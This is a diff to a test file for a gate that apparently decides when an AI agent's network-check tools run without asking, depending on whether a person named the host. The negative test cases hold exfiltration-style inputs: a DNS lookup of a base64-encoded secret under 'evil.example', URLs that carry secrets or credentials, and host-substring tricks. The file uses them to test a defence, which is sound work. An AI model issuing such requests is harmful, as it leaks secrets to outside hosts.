@@ -26,17 +26,32 @@ test('policy may approve a write beforehand, never what destroys', () => {
 });
 
 test.each([
-  ['host__http_check', { url: 'https://Status.example.com/health?token=abc' }, 'status.example.com'],
-  ['host__tcp_check', { host: '10.0.0.7', port: 22 }, '10.0.0.7'],
-  ['host__dns_lookup', { name: 'c2VjcmV0.evil.example' }, 'c2vjcmv0.evil.example'],
-  ['host__tls_certificate', { host: 'example.org' }, 'example.org'],
-])('%s runs by itself only towards a host that a person named', (name, args, host) => {
-  const call = { tool: { name, effect: 'read' as const }, arguments: args };
-  expect(gate({ ...call, words: () => `Is ${host.toUpperCase()} up?` }, none)).toEqual(runs);
-  expect(gate({ ...call, words: () => 'Read the log, please.' }, none)).toEqual({
-    type: 'ask',
-    reason: `It would reach ${host}, which nobody in this thread has named.`,
-  });
+  [
+    'host__http_check',
+    { url: 'https://status.example.com/health' },
+    'Is https://Status.example.com/health up?',
+  ],
+  ['host__http_check', { url: 'https://status.example.com/' }, 'Is status.example.com up?'],
+  ['host__http_check', { url: 'http://10.0.0.7:8080/' }, 'What says 10.0.0.7:8080?'],
+  ['host__tcp_check', { host: '10.0.0.7', port: 22 }, 'ssh to 10.0.0.7 hangs'],
+  ['host__dns_lookup', { name: 'db1' }, 'Does db1 resolve?'],
+  ['host__tls_certificate', { host: 'example.org' }, 'run host__tls_certificate host=example.org'],
+])('%s %j runs when a person said “%s”', (name, args, words) => {
+  const call = { tool: { name, effect: 'read' as const }, arguments: args, words: () => words };
+  expect(gate(call, none)).toEqual(runs);
+});
+
+test.each([
+  ['host__http_check', { url: 'https://status.example.com/?q=secret' }, 'Is status.example.com up?'],
+  ['host__http_check', { url: 'http://ple.com/' }, 'Is shop.example.com up?'],
+  ['host__http_check', { url: 'http://status.example.com:6379/' }, 'Is status.example.com up?'],
+  ['host__http_check', { url: 'http://user:secret@status.example.com/' }, 'Is status.example.com up?'],
+  ['host__tcp_check', { host: '0', port: 6379 }, 'Is port 8080 open? 0 errors so far.'],
+  ['host__dns_lookup', { name: 'c2VjcmV0.evil.example' }, 'Read the log, please.'],
+  ['host__tls_certificate', { host: '' }, 'Read the log, please.'],
+])('%s %j asks when a person only said “%s”', (name, args, words) => {
+  const call = { tool: { name, effect: 'read' as const }, arguments: args, words: () => words };
+  expect(gate(call, none).type).toBe('ask');
 });
 
 test('a digest is that of the tool and its exact arguments, in whatever order they stand', () => {
